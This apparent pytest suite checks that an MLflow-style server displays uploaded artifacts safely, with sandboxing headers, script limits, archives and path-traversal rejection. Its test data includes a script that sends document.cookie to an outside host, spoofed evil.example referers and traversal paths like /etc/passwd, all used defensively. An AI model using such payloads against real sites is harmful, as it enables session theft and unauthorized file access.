"""Artifacts as pages open them: looked at without harm, and whole folders at once."""

import io
import zipfile

import httpx
import pytest

from tests.in_process import ADDRESS, error_of

pytestmark = pytest.mark.anyio

MLFLOW = "/api/2.0/mlflow"
TRIALOG = "/api/trialog/v1"
FILES = "/api/2.0/mlflow-artifacts/artifacts"
PAGE = b"<script>top.location = 'https://example.org/' + document.cookie</script>"


async def new_run(client: httpx.AsyncClient) -> dict[str, str]:
    answer = await client.post(f"{MLFLOW}/runs/create", json={"experiment_id": "0"})
    info: dict[str, str] = answer.json()["run"]["info"]
    return info


async def put(client: httpx.AsyncClient, uri: str, path: str, content: bytes) -> None:
    place = uri.removeprefix("mlflow-artifacts:/")
    assert (await client.put(f"{FILES}/{place}/{path}", content=content)).is_success


@pytest.mark.parametrize(
    ("name", "kind", "disposition"),
    [
        ("plot.png", "image/png", "inline"),
        ("PLOT.SVG", "image/svg+xml", "inline"),
        ("report.html", "text/html; charset=utf-8", "inline"),
        ("paper.pdf", "application/pdf", "inline"),
        ("speech.wav", "audio/wav", "inline"),
        ("train.py", "text/plain; charset=utf-8", "inline"),
        ("table.csv", "text/plain; charset=utf-8", "inline"),
        ("page.xhtml", "application/octet-stream", "attachment"),
        ("style.css", "application/octet-stream", "attachment"),
        ("data.parquet", "application/octet-stream", "attachment"),
        ("no-ending", "application/octet-stream", "attachment"),
    ],
)
async def test_a_file_is_shown_as_what_it_is_and_can_do_nothing(
    client: httpx.AsyncClient, name: str, kind: str, disposition: str
) -> None:
    run = await new_run(client)
    await put(client, run["artifact_uri"], name, PAGE)
    answer = await client.get(f"{TRIALOG}/runs/{run['run_id']}/artifacts/view", params={"path": name})
    assert (answer.status_code, answer.content) == (200, PAGE)
    assert answer.headers["content-type"] == kind
    assert answer.headers["content-disposition"].startswith(f'{disposition}; filename="{name}"')
    policy = answer.headers["content-security-policy"]
    assert policy.startswith("sandbox; default-src 'none';")
    assert "script" not in policy
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert answer.headers["cross-origin-resource-policy"] == "same-origin"


async def test_scripts_of_a_page_run_only_if_asked_and_reach_nothing(client: httpx.AsyncClient) -> None:
    run = await new_run(client)
    for name in ("plot.html", "plot.svg"):
        await put(client, run["artifact_uri"], name, PAGE)
    view = f"{TRIALOG}/runs/{run['run_id']}/artifacts/view"
    asked = {"path": "plot.html", "allow_scripts": "true"}
    page = await client.get(view, params=asked, headers={"Sec-Fetch-Dest": "iframe"})
    policy = page.headers["content-security-policy"]
    assert policy.startswith("sandbox allow-scripts; script-src 'unsafe-inline'")
    assert "default-src 'none'" in policy
    assert "same-origin" not in policy
    assert "connect-src" not in policy
    # Else a browser would show it alone as it was allowed in the frame.
    assert "no-store" in page.headers["cache-control"]
    alone = await client.get(view, params=asked, headers={"Sec-Fetch-Dest": "document"})
    assert "script" not in alone.headers["content-security-policy"]
    image = await client.get(view, params={"path": "plot.svg", "allow_scripts": "true"})
    assert "script" not in image.headers["content-security-policy"]


@pytest.mark.parametrize(
    ("referer", "is_run"),
    [
        (f"{ADDRESS}/", True),
        (f"{ADDRESS}/runs/1", True),
        (None, False),
        ("", False),
        ("http://evil.example/", False),
        (f"http://evil.example/{ADDRESS}/", False),
        (f"{ADDRESS}.evil.example/", False),
        ("null", False),
    ],
)
async def test_over_plain_http_scripts_run_in_what_comes_from_a_page_of_the_server(
    client: httpx.AsyncClient, referer: str | None, *, is_run: bool
) -> None:
    run = await new_run(client)
    await put(client, run["artifact_uri"], "plot.html", PAGE)
    page = await client.get(
        f"{TRIALOG}/runs/{run['run_id']}/artifacts/view",
        params={"path": "plot.html", "allow_scripts": "true"},
        headers={} if referer is None else {"Referer": referer},
    )
    assert ("allow-scripts" in page.headers["content-security-policy"]) == is_run


async def test_a_file_is_looked_at_in_parts(client: httpx.AsyncClient) -> None:
    run = await new_run(client)
    await put(client, run["artifact_uri"], "data.parquet", bytes(range(100)))
    view = f"{TRIALOG}/runs/{run['run_id']}/artifacts/view"
    end = await client.get(view, params={"path": "data.parquet"}, headers={"Range": "bytes=-8"})
    assert (end.status_code, end.content) == (206, bytes(range(92, 100)))
    assert end.headers["content-range"] == "bytes 92-99/100"
    known = await client.get(view, params={"path": "data.parquet"}, headers={"If-None-Match": end.headers["etag"]})
    assert known.status_code == 304
    head = await client.head(view, params={"path": "data.parquet"})
    assert (head.headers["content-length"], head.content) == ("100", b"")


async def test_folders_of_runs_models_and_versions_come_as_archives(client: httpx.AsyncClient) -> None:
    run = await new_run(client)
    made = await client.post(f"{MLFLOW}/logged-models", json={"experiment_id": "0", "name": "m"})
    model = made.json()["model"]["info"]
    for uri in (run["artifact_uri"], model["artifact_uri"]):
        await put(client, uri, "model/deep/data.bin", b"data")
        await put(client, uri, "note.txt", b"note")
    await client.post(f"{MLFLOW}/registered-models/create", json={"name": ". forest"})
    version = {"name": ". forest", "source": f"runs:/{run['run_id']}/model", "run_id": run["run_id"]}
    assert (await client.post(f"{MLFLOW}/model-versions/create", json=version)).is_success

    asked = [
        (f"runs/{run['run_id']}", "", run["run_id"], {"model/deep/data.bin", "note.txt"}),
        (f"runs/{run['run_id']}", "model", "model", {"deep/data.bin"}),
        (f"runs/{run['run_id']}", "note.txt", "note.txt", {"note.txt"}),
        (f"logged-models/{model['model_id']}", "model/deep", "deep", {"data.bin"}),
        ("models/. forest/versions/1", "", "forest-1", {"deep/data.bin"}),
    ]
    for thing, path, name, files in asked:
        answer = await client.get(f"{TRIALOG}/{thing}/artifacts/archive", params={"path": path} if path else {})
        assert answer.status_code == 200, answer.text
        assert answer.headers["content-type"] == "application/zip"
        assert answer.headers["content-disposition"].startswith(f'attachment; filename="{name}.zip"')
        with zipfile.ZipFile(io.BytesIO(answer.content)) as found:
            assert set(found.namelist()) == {f"{name}/{file}" for file in files}

    viewed = await client.get(f"{TRIALOG}/models/. forest/versions/1/artifacts/view", params={"path": "deep/data.bin"})
    assert viewed.content == b"data"
    listed = await client.get(f"{TRIALOG}/models/. forest/versions/1/artifacts", params={"path": "deep"})
    assert listed.json()["files"] == [{"path": "deep/data.bin", "is_dir": False, "file_size": 4}]
    of_model = await client.get(
        f"{TRIALOG}/logged-models/{model['model_id']}/artifacts/view", params={"path": "note.txt"}
    )
    assert of_model.content == b"note"


@pytest.mark.parametrize("route", ["archive", "view"])
@pytest.mark.parametrize("path", ["../../other", "/etc/passwd", "%2e%2e/x", "a\\b", "gone"])
async def test_nothing_outside_of_a_run_is_reached(client: httpx.AsyncClient, route: str, path: str) -> None:
    run = await new_run(client)
    answer = await client.get(f"{TRIALOG}/runs/{run['run_id']}/artifacts/{route}", params={"path": path})
    assert error_of(answer)[0] == (404 if path == "gone" else 400)


async def test_a_run_without_files_has_no_archive(client: httpx.AsyncClient) -> None:
    run = await new_run(client)
    answer = await client.get(f"{TRIALOG}/runs/{run['run_id']}/artifacts/archive")
    assert error_of(answer)[:2] == (404, "RESOURCE_DOES_NOT_EXIST")
